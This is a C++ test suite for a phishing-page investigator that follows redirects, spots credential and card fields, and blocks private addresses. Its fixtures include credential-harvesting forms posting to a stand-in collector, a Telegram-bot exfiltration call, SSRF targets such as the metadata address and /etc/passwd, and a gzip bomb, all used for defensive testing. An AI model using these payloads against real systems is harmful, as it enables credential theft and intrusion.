#include "page_reader.hpp"
#include "script.hpp"
#include "urls.hpp"
#include "written.hpp"

#include <vigie/drivers/curl.hpp>
#include <vigie/drivers/investigator.hpp>

#include <doctest/doctest.h>
#include <faults/tcp_server.hpp>
#include <zlib.h>

#include <chrono>
#include <functional>
#include <thread>

using namespace vigie;
using namespace std::chrono_literals;
using faults::TestConnection;
using faults::TestServer;
using model::PageVisit;

namespace {

std::string http_answer(std::string_view head, std::string_view body) {
    return "HTTP/1.1 " + std::string(head) +
           "\r\nConnection: close\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" +
           std::string(body);
}

std::string page(std::string_view html) {
    return http_answer("200 OK\r\nContent-Type: text/html; charset=utf-8", html);
}

struct Lookout {
    explicit Lookout(std::vector<std::string> allow = {"127.0.0.0/8"}, std::chrono::milliseconds time = 3s)
        : http(drivers::make_curl_http("Vigie/test", {.also_allow = std::move(allow)})),
          investigator(drivers::make_investigator(*http, {.visit_time = time, .any_port = true})) {}
    std::vector<PageVisit> visit(const std::string& url) {
        auto visits = investigator->visit(url);
        REQUIRE(visits);
        REQUIRE(visits->size() == 4);
        return *std::move(visits);
    }
    std::unique_ptr<ports::Http> http;
    std::unique_ptr<ports::Investigator> investigator;
};

// Every visitor meets the same error, and soon.
void meets(const std::string& error, const std::function<void(TestConnection&)>& script,
           std::chrono::milliseconds time = 1500ms) {
    TestServer server(script);
    Lookout lookout({"127.0.0.0/8"}, time);
    const auto began = std::chrono::steady_clock::now();
    for (const auto& v : lookout.visit(server.url("http", "/x"))) CHECK(v.error == error);
    CHECK(std::chrono::steady_clock::now() - began < 12s);
    CHECK_FALSE(drivers::explain_visit_error(error).fr.empty());
}

}  // namespace

TEST_CASE("a chain of all kinds of redirects is followed to the page, and the page is read") {
    TestServer* self = nullptr;
    TestServer server([&](TestConnection& c) {
        const auto request = c.read_until("\r\n\r\n");
        const auto path = request.substr(4, request.find(' ', 4) - 4);
        if (path == "/a") c.send(http_answer("302 Found\r\nLocation: /b", ""));
        if (path == "/b") c.send(page(R"(<meta http-equiv="Refresh" content="0; URL='/c'">)"));
        if (path == "/c") c.send(page(R"(<script>window.location.href = "/d" + "?x=1";</script>)"));
        if (path == "/d?x=1")
            c.send(http_answer("200 OK\r\nRefresh: 0; url=/e\r\nContent-Type: text/html", "…"));
        if (path == "/e")
            c.send(page(
                R"(<html lang=fr><title> Espace   client – Méridien </title><link rel="shortcut icon" href="https://meridien.example/f.ico">
              <body>Bonjour <b>Claire</b><script>var a=1;</script><form method=POST action="https://collect.test/x">
              <input name=identifiant><input type=password name=mdp><input autocomplete="cc-number"></form><input placeholder="Code SMS reçu">)"));
    });
    self = &server;
    Lookout lookout;
    for (const auto& v : lookout.visit(self->url("http", "/a"))) {
        CAPTURE(v.visitor);
        CHECK(v.error.empty());
        REQUIRE(v.hops.size() == 5);
        CHECK(v.hops[1].how == "http");
        CHECK(v.hops[2].how == "meta");
        CHECK(v.hops[3].how == "script");
        CHECK(v.hops[4].how == "refresh");
        CHECK(v.title == "Espace client – Méridien");
        CHECK(v.lang == "fr");
        CHECK(v.text == "Bonjour Claire");
        CHECK(v.favicon == "https://meridien.example/f.ico");
        CHECK(v.hosts == std::vector<std::string>{"meridien.example"});
        REQUIRE(v.forms.size() == 2);
        CHECK(v.forms[0].action == "https://collect.test/x");
        CHECK(v.forms[0].method == "post");
        CHECK(v.forms[0].fields[1] == "password:mdp");
        CHECK(v.asks_password);
        CHECK(v.asks_card);
        CHECK(v.asks_code);
    }
}

TEST_CASE("visitors differ: language, telephone and referrer are told to the server, cookies never") {
    TestServer* self = nullptr;
    TestServer server([&](TestConnection& c) {
        const auto request = c.read_until("\r\n\r\n");
        self->note(request);
        const bool meant =
            request.find("iPhone") != std::string::npos && request.find("facebook.com") != std::string::npos;
        c.send(meant ? http_answer("200 OK\r\nSet-Cookie: a=b\r\nContent-Type: text/html",
                                   "<title>Colis</title><input type=password>")
                     : http_answer("404 Not Found", ""));
    });
    self = &server;
    Lookout lookout;
    const auto visits = lookout.visit(server.url("http", "/p"));
    CHECK(visits[0].status == 404);
    CHECK(visits[3].visitor == "referred");
    CHECK(visits[3].asks_password);
    lookout.visit(server.url("http", "/q"));
    for (const auto& request : server.notes()) CHECK(request.find("Cookie:") == std::string::npos);
}

TEST_CASE("no private address is ever opened, however it is written or reached") {
    TestServer inner([](TestConnection& c) {
        c.read_until("\r\n\r\n");
        c.send(page("secret"));
    });
    const auto port = std::to_string(inner.port());
    Lookout guarded(std::vector<std::string>{});
    for (const auto& url :
         {"http://127.0.0.1:" + port, "http://localhost:" + port, "http://[::1]:" + port,
          "http://0x7f000001:" + port, "http://2130706433:" + port, "http://[::ffff:127.0.0.1]:" + port,
          "http://0:" + port, std::string("http://169.254.169.254/latest/meta-data/"),
          std::string("http://10.0.0.1/"), std::string("http://[fe80::1]/")}) {
        for (const auto& v : guarded.visit(url)) {
            CAPTURE(url);
            CHECK(v.error == "address.private");
            CHECK(v.text.empty());
        }
    }
    CHECK(inner.connections() == 0);
    CHECK_FALSE(guarded.investigator->fetch("http://127.0.0.1:" + port + "/a.png", 1000));
}

TEST_CASE("a redirect to a metadata address, a file or another scheme is refused") {
    for (const auto& [target, error] :
         std::vector<std::pair<std::string, std::string>>{{"http://169.254.169.254/", "address.private"},
                                                          {"http://10.1.2.3/", "address.private"},
                                                          {"file:///etc/passwd", "redirect.refused"},
                                                          {"gopher://127.0.0.1/", "redirect.refused"},
                                                          {"javascript:alert(1)", "redirect.refused"}}) {
        CAPTURE(target);
        meets(error, [&](TestConnection& c) {
            c.read_until("\r\n\r\n");
            c.send(http_answer("302 Found\r\nLocation: " + target, ""));
        });
    }
}

TEST_CASE("hostile servers are contained: loops, endless chains, slow bytes, huge heads, broken answers") {
    meets("redirect.loop", [](TestConnection& c) {
        c.read_until("\r\n\r\n");
        c.send(http_answer("302 Found\r\nLocation: /x", ""));
    });
    int n = 0;
    meets("redirect.endless", [&](TestConnection& c) {
        c.read_until("\r\n\r\n");
        c.send(page("<meta http-equiv=refresh content='0;url=/" + std::to_string(++n) + "'>"));
    });
    meets(
        "too.slow",
        [](TestConnection& c) {
            c.read_until("\r\n\r\n");
            c.send("HTTP/1.1 200 OK\r\n");
            for (int i = 0; i < 40 && !c.stopping(); ++i) {
                if (!c.send("X: y\r\n")) return;
                std::this_thread::sleep_for(50ms);
            }
        },
        400ms);
    meets("answer.malformed", [](TestConnection& c) {
        c.read_until("\r\n\r\n");
        c.send("HTTP/1.1 200 OK\r\nX: " + std::string(1U << 20U, 'a') + "\r\n\r\n");
    });
    meets("answer.malformed", [](TestConnection& c) {
        c.read_until("\r\n\r\n");
        c.send("SSH-2.0-nothing\r\n\r\n");
    });
}

TEST_CASE("an endless page and a gzip bomb are read in their beginning only") {
    TestServer endless([](TestConnection& c) {
        c.read_until("\r\n\r\n");
        c.send("HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Type: text/html\r\n\r\n<title>Long</title>");
        const std::string block(65536, 'a');
        while (!c.stopping() && c.send(block)) {
        }
    });
    Lookout lookout;
    for (const auto& v : lookout.visit(endless.url("http"))) {
        CHECK(v.error.empty());
        CHECK(v.title == "Long");
        CHECK(v.bytes == 2 << 20);
    }
    std::string plain = "<title>Bomb</title>" + std::string(std::size_t{64} << 20U, ' ');
    std::string packed(1U << 20U, '\0');
    z_stream z{};
    deflateInit2(&z, 9, Z_DEFLATED, 31, 9, Z_DEFAULT_STRATEGY);
    z.next_in = reinterpret_cast<Bytef*>(plain.data());
    z.avail_in = static_cast<uInt>(plain.size());
    z.next_out = reinterpret_cast<Bytef*>(packed.data());
    z.avail_out = static_cast<uInt>(packed.size());
    deflate(&z, Z_FINISH);
    packed.resize(z.total_out);
    deflateEnd(&z);
    TestServer bomb([&](TestConnection& c) {
        c.read_until("\r\n\r\n");
        c.send(http_answer("200 OK\r\nContent-Encoding: gzip\r\nContent-Type: text/html", packed));
    });
    for (const auto& v : lookout.visit(bomb.url("http"))) {
        CHECK(v.title == "Bomb");
        CHECK(v.bytes <= 2 << 20);
    }
}

TEST_CASE("what is no web address is refused before anything is asked") {
    Lookout lookout;
    for (const auto* url : {"file:///etc/passwd", "javascript:alert(1)", "", "ftp://a.test/", "http://"}) {
        CAPTURE(url);
        CHECK_FALSE(lookout.investigator->visit(url));
    }
    CHECK(drivers::resolve("https://a.test/x/y", "../z?q#f") == "https://a.test/z?q");
    CHECK(drivers::resolve("https://a.test/", "//b.test") == "https://b.test/");
    CHECK(drivers::resolve({}, "https://user:secret@a.test/") == "https://a.test/");
    CHECK(drivers::resolve("https://a.test/", "data:text/html,x").empty());
}

TEST_CASE("location: literals and sums, nothing else") {
    CHECK(drivers::location_of("window.location = 'https://a.test'") == "https://a.test");
    CHECK(drivers::location_of("top.location.replace(\"/x\")") == "/x");
    CHECK(drivers::location_of("location.href='ht' + 'tps://a.test/' + '\\x41'") == "https://a.test/A");
    CHECK(drivers::location_of("location.assign(`/y`)") == "/y");
    CHECK(drivers::location_of("if (location.href == '/x') {}").empty());
    CHECK(drivers::location_of("var mylocation = '/x'").empty());
    CHECK(drivers::location_of("location = target").empty());
    CHECK(drivers::location_of("location='" + std::string(1'000'000, 'a')).empty());
}

TEST_CASE("HTML that scripts write as literals is read, what they compute is not") {
    using drivers::html_written_by;
    CHECK(html_written_by("document.write('<b>' + name + \"</b>\")") == "<b></b>\n");
    CHECK(html_written_by("el.innerHTML += `<p>${a}\\u00e9<i>`;") == "<p>\u00e9<i>\n");
    CHECK(html_written_by("x.insertAdjacentHTML('beforeend', '<a>')") == "<a>\n");
    CHECK(html_written_by("document.write(atob('PGI+aGk8L2I+'))") == "<b>hi</b>\n");
    CHECK(html_written_by("document.write(unescape('%3Cb%3E'))") == "<b>\n");
    CHECK(html_written_by("if (x.innerHTML == '<b>') y.appendChild('<b>')").empty());
    CHECK(html_written_by("document.write(later)").empty());
    for (const auto* bad :
         {"document.write(`${", "document.write('", ".html(\"", ".innerHTML=", ".append(atob('"}) {
        std::string many;
        while (many.size() < (2U << 20U)) many += bad;
        const auto began = std::chrono::steady_clock::now();
        (void)html_written_by(many);
        CHECK(std::chrono::steady_clock::now() - began < 5s);
    }
    PageVisit v;
    v.final_url = "https://a.test/";
    (void)drivers::read_page(
        "<title>Session</title><div id=a></div><script>a.innerHTML = '<h1>Banque</h1><form action=\"/x\">"
        "<input type=password><\\/form><script>document.write(\"<h2>no</h2>\")<\\/script>';</script>",
        v);
    CHECK(v.asks_password);
    CHECK(v.voice == "Banque");
    REQUIRE(v.forms.size() == 1);
    CHECK(v.forms[0].action == "https://a.test/x");
}

TEST_CASE("a field is what its label says, and codes and cards are told from passwords") {
    const auto read = [](std::string_view html) {
        PageVisit v;
        v.final_url = "https://a.test/";
        (void)drivers::read_page(html, v);
        return std::string(v.asks_password ? "P" : "") + (v.asks_card ? "C" : "") + (v.asks_code ? "O" : "");
    };
    CHECK(read("<label>Mot de passe</label><input name=a>") == "P");
    CHECK(read("<label>Numéro de carte <input name=a></label>") == "C");
    CHECK(read("<input name=cvv type=password>") == "C");
    CHECK(read("<input name=pin type=password maxlength=4>") == "O");
    CHECK(read("<input name=c1 aria-label='Chiffre 1 du code secret'>") == "P");
    CHECK(read("<textarea name=w placeholder='Your recovery phrase'></textarea>") == "P");
    CHECK(read("<input name=pan>") == "C");
    CHECK(read("<input name=company><input name=shipping><input type=search name=pin>").empty());
    CHECK(read("<p>We never see your password.</p><input name=q>").empty());
}

TEST_CASE("what stands in a frame, keys of digits and scripts that talk to a chat are seen") {
    const auto read = [](std::string_view html) {
        PageVisit v;
        v.final_url = "https://a.test/x";
        auto reading = drivers::read_page(html, v);
        return std::pair(v, reading.frame);
    };
    CHECK(read("<title>T</title><frameset><frame src=/in></frameset>").second == "https://a.test/in");
    CHECK(read("<iframe src='//b.test/f' style='border:0;overflow:hidden'></iframe>").second ==
          "https://b.test/f");
    CHECK(read("<iframe src='//b.test/f' width=0></iframe>").second.empty());
    CHECK(read("<p>" + std::string(300, 'a') + "</p><iframe src='//b.test/f'></iframe>").second.empty());
    CHECK(read("<iframe srcdoc='<input type=password>'></iframe>").first.asks_password);
    std::string keys;
    for (const char c : std::string("4709128365")) keys += std::string("<button>") + c + "</button>";
    CHECK(read(keys).first.asks_password);
    CHECK_FALSE(read(keys.substr(20)).first.asks_password);
    const auto hosts =
        read("<script>fetch('https://api.telegram.org/bot1:x/sendMessage')</script>").first.hosts;
    CHECK(hosts == std::vector<std::string>{"api.telegram.org"});
    CHECK(read("<img src='/img/logo_meridien-2.png'>").first.voice == "logo meridien 2");
}

TEST_CASE("who speaks on a page stands in headings, header and footer, logos, pictures and buttons") {
    PageVisit v;
    v.final_url = "https://a.test/";
    (void)drivers::read_page(
        "<meta property='og:site_name' content='Site'><div class='top-logo'>Marque</div><h1>Titre</h1>"
        "<img alt='Image'><p>Un <b>texte</b></p><input type=submit value=Entrer><footer>Pied</footer>"
        "<article>Long</article>",
        v);
    CHECK(v.voice == "Site | Marque | Titre | Image | Entrer | Pied");
    CHECK(v.text.find("Un texte") != std::string::npos);
    CHECK(v.article);
}

TEST_CASE("the page reader survives what no browser would: depth, NULs, rubbish") {
    PageVisit v;
    v.final_url = "https://a.test/";
    std::string deep;
    for (int i = 0; i < 100'000; ++i) deep += "<div>";
    (void)drivers::read_page("<title>Deep</title>" + deep + "<input type=password>", v);
    CHECK(v.title == "Deep");
    CHECK(drivers::cut_deep(deep).size() < 20'000);
    PageVisit w;
    w.final_url = "https://a.test/";
    (void)drivers::read_page(std::string("<title>a\0b</title>\xff\xfe<form><form><input type=password", 55),
                             w);
    PageVisit many;
    many.final_url = "https://a.test/";
    std::string forms;
    for (int i = 0; i < 5000; ++i) forms += "<form action=/" + std::to_string(i) + "><input name=a></form>";
    (void)drivers::read_page(forms, many);
    CHECK(many.forms.size() == 32);
}
